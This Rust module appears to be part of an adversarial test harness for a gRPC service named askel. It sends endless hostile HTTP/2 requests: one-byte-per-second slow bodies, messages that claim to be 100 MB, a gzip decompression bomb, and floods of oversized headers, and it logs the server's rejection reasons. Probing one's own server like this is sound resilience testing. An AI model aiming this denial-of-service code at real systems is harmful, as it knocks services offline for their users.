//! Hostile requests over HTTP/2.

use std::{
    io::{Read as _, Write as _},
    process::{Command, Stdio},
};

use bytes::Bytes;
use h2::{Reason, SendStream, client::SendRequest};
use http::{HeaderValue, Request, StatusCode, header::HeaderMap};
use tokio::{net::TcpStream, task::JoinSet};
use tonic::Status;
use tonic_types::StatusExt as _;

use super::{
    attacker::tell,
    attacks::{SLOWLY, Target},
};

/// What a length prefix promises, in bytes.
const HUGE: u32 = 100 * 1_024 * 1_024;
/// What a bomb comes to: compressed, a stranger may send as much.
const INFLATED: u32 = 60 * 1_024 * 1_024;
/// Calls at a time of one connection.
const CALLS: usize = 4;
/// The same where they are slow.
const SLOW_CALLS: usize = 60;
/// What is sent at once, in bytes.
const CHUNK: usize = 16 * 1_024;
/// A header's value, and how often it stands there: a byte each, after the first.
const HEADER_BYTES: usize = 2_000;
const HEADERS: usize = 10_000;
/// A method for devices that are known, and one for strangers.
const SYNC: &str = "/askel.v1.SyncService/Sync";
const ENROL: &str = "/askel.v1.EnrolmentService/Enrol";

/// What is asked, over and over.
#[derive(Clone)]
pub(super) enum Asks {
    /// One byte of a body a second.
    Slowly,
    /// A message of 100 MB.
    Hugely,
    /// What inflates.
    Bomb(Bytes),
}

/// Connects, asks, tells what it is answered, and connects again when it is cut.
pub(super) async fn go_on(target: Target, asks: Asks) {
    loop {
        // What was told before it was cut counts.
        let _ = connected(&target, &asks).await;
        tokio::task::yield_now().await;
    }
}

async fn connected(target: &Target, asks: &Asks) -> Result<(), h2::Error> {
    let stream = TcpStream::connect(&target.address).await;
    let stream = stream.map_err(|_| Reason::CONNECT_ERROR)?;
    let (send, connection) = h2::client::handshake(stream).await?;
    let driven = tokio::spawn(connection);
    let mut calls = JoinSet::new();
    let many = match asks {
        Asks::Slowly => SLOW_CALLS,
        Asks::Hugely | Asks::Bomb(_) => CALLS,
    };
    for _ in 0..many {
        let (send, target, asks) = (send.clone(), target.clone(), asks.clone());
        calls.spawn(async move {
            loop {
                if let Err(error) = asks.ask(&send, &target).await {
                    return error;
                }
            }
        });
    }
    drop(send);
    // One that was cut cuts the others: it is the connection that ended.
    calls.join_next().await;
    tell("cut");
    drop(calls);
    driven.await.unwrap_or(Ok(()))
}

impl Asks {
    async fn ask(&self, send: &SendRequest<Bytes>, target: &Target) -> Result<(), h2::Error> {
        match self {
            Self::Slowly => {
                let asked = Asked::begin(send, known(target)).await?;
                tell(&asked.pouring(drip).await?);
            }
            Self::Hugely => {
                for head in [stranger(), known(target)] {
                    let asked = Asked::begin(send, head).await?;
                    tell(&asked.pouring(pour).await?);
                }
                let asked = Asked::begin(send, known(target)).await?;
                tell(&asked.saying(framed(0, HUGE, &[1; 100])).await?);
            }
            Self::Bomb(bomb) => {
                for mut head in [stranger(), known(target)] {
                    let gzip = HeaderValue::from_static("gzip");
                    head.headers_mut().insert("grpc-encoding", gzip);
                    let length = u32::try_from(bomb.len()).expect("a small one");
                    let asked = Asked::begin(send, head).await?;
                    tell(&asked.saying(framed(1, length, bomb)).await?);
                }
                let mut head = known(target);
                let long = HeaderValue::from_bytes(&[b'x'; HEADER_BYTES]).expect("a value");
                for _ in 0..HEADERS {
                    head.headers_mut().append("x-long", long.clone());
                }
                let asked = Asked::begin(send, head).await?;
                tell(&asked.saying(Bytes::new()).await?);
            }
        }
        Ok(())
    }
}

/// A call whose head was sent.
struct Asked {
    response: h2::client::ResponseFuture,
    body: SendStream<Bytes>,
}

impl Asked {
    async fn begin(send: &SendRequest<Bytes>, head: Request<()>) -> Result<Self, h2::Error> {
        let mut send = send.clone().ready().await?;
        let (response, body) = send.send_request(head, false)?;
        Ok(Self { response, body })
    }

    /// The answer to a body that ends.
    async fn saying(mut self, body: Bytes) -> Result<String, h2::Error> {
        // The answer may come before it is taken.
        let _ = self.body.send_data(body, true);
        Ok(answer(&self.response.await?))
    }

    /// The answer to a body that goes on until there is one.
    async fn pouring(
        mut self,
        pour: impl AsyncFnOnce(&mut SendStream<Bytes>) -> Result<(), h2::Error>,
    ) -> Result<String, h2::Error> {
        let mut response = self.response;
        tokio::select! {
            response = &mut response => return Ok(answer(&response?)),
            // Whoever has answered takes no more.
            _ = pour(&mut self.body) => {}
        }
        Ok(answer(&response.await?))
    }
}

/// A message of so many bytes is promised and sent, as fast as it is taken.
async fn pour(body: &mut SendStream<Bytes>) -> Result<(), h2::Error> {
    body.send_data(framed(0, HUGE, &[]), false)?;
    let chunk = Bytes::from(vec![7; CHUNK]);
    let mut left = usize::try_from(HUGE).unwrap_or(usize::MAX);
    while left > 0 {
        body.reserve_capacity(CHUNK);
        let Some(room) = std::future::poll_fn(|context| body.poll_capacity(context)).await else {
            return Ok(());
        };
        let room = room?.min(CHUNK).min(left);
        body.send_data(chunk.slice(..room), false)?;
        left = left.saturating_sub(room);
    }
    Ok(())
}

/// A byte a second.
async fn drip(body: &mut SendStream<Bytes>) -> Result<(), h2::Error> {
    for byte in framed(0, 1_000, &[7; 1_000]) {
        body.send_data(Bytes::copy_from_slice(&[byte]), false)?;
        tokio::time::sleep(SLOWLY).await;
    }
    Ok(())
}

/// The reason that the server gives.
fn answer(response: &http::Response<h2::RecvStream>) -> String {
    if response.status() == StatusCode::REQUEST_HEADER_FIELDS_TOO_LARGE {
        return "headers too large".to_owned();
    }
    let Some(status) = Status::from_header_map(response.headers()) else {
        return format!("{}", response.status());
    };
    let details = status.get_error_details();
    let reason = details.error_info().map(|info| info.reason.clone());
    reason.unwrap_or_else(|| format!("{:?}", status.code()))
}

fn stranger() -> Request<()> {
    head(ENROL, HeaderMap::new())
}

fn known(target: &Target) -> Request<()> {
    let credential = target.credential.parse().expect("ASCII");
    head(SYNC, HeaderMap::from_iter([(CREDENTIAL, credential)]))
}

/// The metadata that says who calls.
const CREDENTIAL: http::HeaderName = http::HeaderName::from_static("askel-credential");

fn head(method: &str, headers: HeaderMap) -> Request<()> {
    let mut head = Request::post(format!("http://askel{method}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())
        .expect("a head");
    head.headers_mut().extend(headers);
    head
}

/// A message as gRPC frames it, with whatever length is claimed.
fn framed(compressed: u8, length: u32, message: &[u8]) -> Bytes {
    let mut frame = vec![compressed];
    frame.extend(length.to_be_bytes());
    frame.extend(message);
    frame.into()
}

/// Some kilobytes that inflate to a thousand times as much.
pub(super) fn bomb() -> Bytes {
    let mut gzip = Command::new("gzip")
        .args(["--best", "--stdout"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("gzip is there");
    let (mut into, mut out) = (gzip.stdin.take(), gzip.stdout.take());
    let zeros = std::thread::spawn(move || {
        let into = into.as_mut().expect("piped");
        for _ in 0..INFLATED / 1_024 {
            into.write_all(&[0; 1_024]).expect("taken");
        }
    });
    let mut bomb = Vec::new();
    let out = out.as_mut().expect("piped");
    out.read_to_end(&mut bomb).expect("read");
    zeros.join().expect("all of it");
    gzip.wait().expect("an end");
    bomb.into()
}
